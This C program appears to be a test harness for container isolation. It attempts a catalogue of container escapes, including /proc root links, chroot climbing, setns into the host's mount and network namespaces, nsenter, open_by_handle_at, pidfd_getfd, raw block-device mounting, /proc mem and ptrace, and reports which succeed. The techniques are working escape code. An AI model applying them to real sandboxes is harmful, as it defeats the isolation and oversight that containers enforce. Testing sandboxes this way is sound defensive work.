/*
 * Ways out of a container, to the host's root and network. Arguments: a process of the host, whose working directory holds
 * twin/file and whose standard input is that file; the path of that file; its handle; a port; a device; the ways to take.
 * Each says what came of it, a line each: its name and "won", or "lost" with the number of the error.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

struct handle { unsigned bytes; int type; unsigned char value[128]; };

static int host, port;
static const char *twin, *handle_text, *device;

static const char *of_host(const char *rest)
{
	static char path[512];

	snprintf(path, sizeof(path), "/proc/%d/%s", host, rest);
	return path;
}

/* What is behind the descriptor is the host's file, and not the one of the same path inside. */
static int is_hosts(int fd)
{
	char text[5] = "";

	if (fd < 0)
		return 0;
	if (pread(fd, text, 4, 0) == 4 && !strcmp(text, "host"))
		return 1;
	errno = EILSEQ;
	return 0;
}

static int host_root(void)
{
	return open(of_host("root"), O_PATH | O_DIRECTORY);
}

static int hold_root(void)
{
	return host_root() >= 0;
}

static int link_of_root(void)
{
	char path[512];

	snprintf(path, sizeof(path), "root%s", twin);
	return is_hosts(open(of_host(path), O_RDONLY));
}

static int link_of_directory(void)
{
	return is_hosts(open(of_host("cwd/twin/file"), O_RDONLY));
}

static int link_of_file(void)
{
	return is_hosts(open(of_host("fd/0"), O_RDONLY));
}

static int from_root(void)
{
	return is_hosts(openat(host_root(), twin + 1, O_RDONLY));
}

static int change_directory(void)
{
	return !fchdir(host_root()) && is_hosts(open(twin + 1, O_RDONLY));
}

static int change_root(void)
{
	return !fchdir(host_root()) && !chroot(".") && is_hosts(open(twin, O_RDONLY));
}

/* The old way out of a root: keep a directory above it. */
static int climb(void)
{
	int above = open("/", O_RDONLY | O_DIRECTORY);

	if (chroot("/tmp") || fchdir(above))
		return 0;
	for (int step = 0; step < 64; step++)
		if (chdir(".."))
			return 0;
	return !chroot(".") && is_hosts(open(twin, O_RDONLY));
}

static int change_program(void)
{
	char path[512];
	int status;
	pid_t child = fork();

	if (child == 0) {
		snprintf(path, sizeof(path), "root%.*s/program", (int)(strlen(twin) - 5), twin);
		execl(of_host(path), "program", (char *)0);
		_exit(errno);
	}
	waitpid(child, &status, 0);
	errno = WEXITSTATUS(status);
	return errno == 200;
}

static int set_mounts(void)
{
	return !setns(open(of_host("ns/mnt"), O_RDONLY), CLONE_NEWNS);
}

static int mounts(void)
{
	return set_mounts() && is_hosts(open(twin, O_RDONLY));
}

static int mounts_of_process(void)
{
	int process = syscall(SYS_pidfd_open, host, 0);

	return process >= 0 && !setns(process, CLONE_NEWNS) && is_hosts(open(twin, O_RDONLY));
}

static int nsenter(void)
{
	int ends[2], status;
	char number[16];

	pipe(ends);
	snprintf(number, sizeof(number), "%d", host);
	pid_t child = fork();
	if (child == 0) {
		dup2(ends[1], 1);
		execl("/bin/busybox", "busybox", "nsenter", "-t", number, "-m", "cat", twin, (char *)0);
		_exit(errno);
	}
	close(ends[1]);
	char text[5] = "";
	int won = read(ends[0], text, 4) == 4 && !strcmp(text, "host");
	waitpid(child, &status, 0);
	errno = WEXITSTATUS(status);
	return won;
}

static int by_handle(void)
{
	struct handle handle = { strlen(handle_text) / 2 - 4 };
	unsigned byte;

	sscanf(handle_text, "%8x", &handle.type);
	for (unsigned at = 0; at < handle.bytes && sscanf(handle_text + 8 + 2 * at, "%2x", &byte) == 1; at++)
		handle.value[at] = byte;
	return is_hosts(syscall(SYS_open_by_handle_at, open(twin, O_RDONLY), &handle, O_RDONLY));
}

static int descriptor(void)
{
	return is_hosts(syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, host, 0), 0, 0));
}

static int bind_mount(void)
{
	return !mount(of_host("root"), "/run", 0, MS_BIND, 0);
}

static int copy_tree(void)
{
	int tree;

	if (!set_mounts())
		return 0;
	tree = syscall(SYS_open_tree, AT_FDCWD, "/", 1 | AT_RECURSIVE);
	return tree >= 0 && is_hosts(openat(tree, twin + 1, O_RDONLY));
}

static int make_device(void)
{
	unsigned major, minor;

	sscanf(device, "%u:%u", &major, &minor);
	return !mknod("/dev/of-host", S_IFBLK | 0600, makedev(major, minor));
}

static int mount_device(void)
{
	return !mount("/dev/of-host", "/run", "ext4", 0, 0);
}

static int memory(void)
{
	return open(of_host("mem"), O_RDWR) >= 0;
}

static int trace(void)
{
	return !ptrace(PTRACE_SEIZE, host, 0, 0);
}

static int signal_host(void)
{
	return !kill(host, SIGCONT);
}

static int reach(void)
{
	struct sockaddr_in there = { AF_INET, htons(port), { htonl(INADDR_LOOPBACK) } };
	int talk = socket(AF_INET, SOCK_STREAM, 0);

	return talk >= 0 && !connect(talk, (void *)&there, sizeof(there));
}

static int set_network(void)
{
	return !setns(open(of_host("ns/net"), O_RDONLY), CLONE_NEWNET);
}

static int hold_socket(void)
{
	return set_network() && socket(AF_INET, SOCK_STREAM, 0) >= 0;
}

static int network(void)
{
	return set_network() && reach();
}

static int network_of_process(void)
{
	int process = syscall(SYS_pidfd_open, host, 0);

	return process >= 0 && !setns(process, CLONE_NEWNET) && reach();
}

/* What is permitted inside: the same path, and the same address, as those of the host. */
static int peace(void)
{
	struct sockaddr_in here = { AF_INET, htons(port), { htonl(INADDR_LOOPBACK) } };
	int wait = socket(AF_INET, SOCK_STREAM, 0), fd = open(twin, O_RDONLY), one = 1;
	char text[7] = "";

	setsockopt(wait, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	return !bind(wait, (void *)&here, sizeof(here)) && !listen(wait, 1) && reach() && pread(fd, text, 6, 0) == 6 &&
	       !strcmp(text, "inside");
}

static int print_handle(const char *path)
{
	struct handle handle = { 128 };
	int mount;

	if (syscall(SYS_name_to_handle_at, AT_FDCWD, path, &handle, &mount, 0))
		return 1;
	printf("%08x", handle.type);
	for (unsigned at = 0; at < handle.bytes; at++)
		printf("%02x", handle.value[at]);
	return 0;
}

static const struct way { const char *name; int (*take)(void); } ways[] = {
	{ "peace", peace },
	{ "set-mounts", set_mounts },
	{ "set-network", set_network },
	{ "hold-root", hold_root },
	{ "hold-socket", hold_socket },
	{ "link-of-root", link_of_root },
	{ "link-of-directory", link_of_directory },
	{ "link-of-file", link_of_file },
	{ "from-root", from_root },
	{ "change-directory", change_directory },
	{ "change-root", change_root },
	{ "climb", climb },
	{ "change-program", change_program },
	{ "mounts", mounts },
	{ "mounts-of-process", mounts_of_process },
	{ "nsenter", nsenter },
	{ "by-handle", by_handle },
	{ "descriptor", descriptor },
	{ "bind-mount", bind_mount },
	{ "copy-tree", copy_tree },
	{ "make-device", make_device },
	{ "mount-device", mount_device },
	{ "memory", memory },
	{ "trace", trace },
	{ "signal", signal_host },
	{ "network", network },
	{ "network-of-process", network_of_process },
};

int main(int count, char **arguments)
{
	if (count == 1)
		return 200;
	if (count == 2)
		return print_handle(arguments[1]);
	host = atoi(arguments[1]);
	twin = arguments[2];
	handle_text = arguments[3];
	port = atoi(arguments[4]);
	device = arguments[5];
	for (int word = 6; word < count; word++)
		for (unsigned at = 0; at < sizeof(ways) / sizeof(*ways); at++) {
			if (strcmp(arguments[word], ways[at].name))
				continue;
			fflush(stdout);
			if (!fork()) {
				int won = ways[at].take(), error = errno;
				if (won)
					printf("%s won\n", ways[at].name);
				else
					printf("%s lost %d\n", ways[at].name, error);
				fflush(stdout);
				_exit(0);
			}
			wait(0);
		}
	return 0;
}
